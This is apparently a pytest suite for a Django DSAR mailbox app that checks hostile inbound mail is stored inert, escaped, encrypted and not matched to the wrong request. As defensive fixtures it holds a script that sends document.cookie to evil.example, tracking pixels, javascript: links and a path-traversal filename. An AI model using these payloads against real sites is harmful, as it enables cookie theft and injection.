"""Hostile mail: HTML with scripts and remote images, a 20 MB attachment, a forged reference of
another request. Stored inert, shown as text, never fetched, never attached to the wrong request."""
from __future__ import annotations

import pytest
from django.urls import reverse

from dsar.cases.fields import private_storage
from dsar.cases.models import Event
from dsar.mailbox import services
from dsar.mailbox.models import InboundMessage
from tests.mailbox import mails
from tests.mailbox.conftest import send_by_email

pytestmark = pytest.mark.django_db

HOSTILE_HTML = """<html><head><style>body{background:url(https://tracker.example/bg.png)}</style>
<script>fetch('https://evil.example/steal?c='+document.cookie)</script></head>
<body onload="alert(1)"><p>We have received your request.</p>
<img src="https://tracker.example/pixel.gif?id=42" width="1" height="1">
<a href="javascript:alert(2)">Click</a><iframe src="https://evil.example/frame"></iframe></body></html>"""


def test_it_stores_html_mail_as_inert_text_and_shows_it_escaped(client, public, sent):
    raw = mails.answer("", html=HOSTILE_HTML, to=services.reply_address(sent.token))
    message = services.message_receive(raw=raw).message
    assert message.had_html
    assert "We have received your request." in message.text
    for inert in ("<script", "fetch(", "tracker.example", "onload", "<img", "javascript:", "<iframe"):
        assert inert not in message.text
    page = client.get(reverse("mailbox:public_message", kwargs={"token": public.token, "message_id": message.pk}))
    body = page.content.decode()
    assert "tracker.example" not in body and "evil.example" not in body and "<script>fetch" not in body
    assert "shown as plain text only" in body


def test_it_escapes_markup_written_into_a_plain_text_mail(client, public, sent):
    raw = mails.answer('<img src="https://tracker.example/p.gif"><script>alert(1)</script>',
                       to=services.reply_address(sent.token))
    message = services.message_receive(raw=raw).message
    page = client.get(reverse("mailbox:public_message", kwargs={"token": public.token, "message_id": message.pk}))
    body = page.content.decode()
    assert "&lt;img src=" in body and '<img src="https://tracker' not in body


def test_it_records_a_20_mb_attachment_without_keeping_it(sent):
    big = b"\x89PNG" + b"\0" * (20 * 1024 * 1024)
    raw = mails.answer("Please find attached the images we hold.", to=services.reply_address(sent.token),
                       attachments=(("all-images.png", "image/png", big), ("letter.pdf", "application/pdf", b"%PDF")))
    message = services.message_receive(raw=raw).message
    large, small = message.attachments.order_by("id")
    assert large.skipped == services.SKIPPED_TOO_LARGE and not large.file and large.size == len(big)
    assert large.name == "all-images.png"
    assert small.file and services.attachment_content(small) == b"%PDF"
    assert message.request_id == sent.request.pk and message.proposal == "answered"


def test_it_encrypts_bodies_and_files_at_rest(sent):
    raw = mails.answer("Your face template id is FT-99812.", to=services.reply_address(sent.token),
                       attachments=(("faces.csv", "text/csv", b"FT-99812,embedding"),))
    message = services.message_receive(raw=raw).message
    from django.db import connection

    with connection.cursor() as cursor:
        cursor.execute("SELECT text, sender, subject FROM mailbox_inboundmessage WHERE id = %s", [message.pk])
        stored = " ".join(cursor.fetchone())
    assert "FT-99812" not in stored and "privacy@example.org" not in stored
    with private_storage.open(message.attachments.get().file.name, "rb") as handle:
        assert b"FT-99812" not in handle.read()


def test_it_never_attaches_a_forged_reference_to_another_persons_request(sent, ngo_a, frozen):
    victim = send_by_email(ngo_a.case.requests.get())
    # An attacker knows the victim's reference and writes from their own domain ...
    forged = services.message_receive(raw=mails.answer(
        "We have erased all your data.", sender="privacy@attacker.example",
        subject=f"Re: {victim.request.case.reference}")).message
    assert forged.request_id is None and forged.review == InboundMessage.Review.SENDER_MISMATCH
    # ... or through the reply address of their own request, naming the victim's reference.
    mixed = services.message_receive(raw=mails.answer(
        "We have erased all your data.", to=services.reply_address(sent.token),
        subject=f"Re: {victim.request.case.reference}")).message
    assert mixed.request_id is None and mixed.review == InboundMessage.Review.CONFLICT
    assert not victim.request.events.filter(kind=Event.Kind.EMAIL_RECEIVED).exists()


def test_it_ignores_a_guessed_reply_token(sent):
    guessed = services.reply_address("a" * 24)
    message = services.message_receive(raw=mails.answer("We have erased your data.", to=guessed)).message
    assert message.request_id is None


def test_it_serves_an_attachment_with_a_hostile_name_as_a_plain_download(client, public, sent):
    raw = mails.answer("See file.", to=services.reply_address(sent.token),
                       attachments=(('..\\..\\etc/x"; a=b.html', "text/html", b"<script>alert(1)</script>"),))
    attachment = services.message_receive(raw=raw).message.attachments.get()
    response = client.get(reverse("mailbox:public_file", kwargs={"token": public.token, "attachment_id": attachment.pk}))
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == 'attachment; filename="x; a=b.html"'
    assert attachment.name == 'x"; a=b.html' and response.content == b"<script>alert(1)</script>"
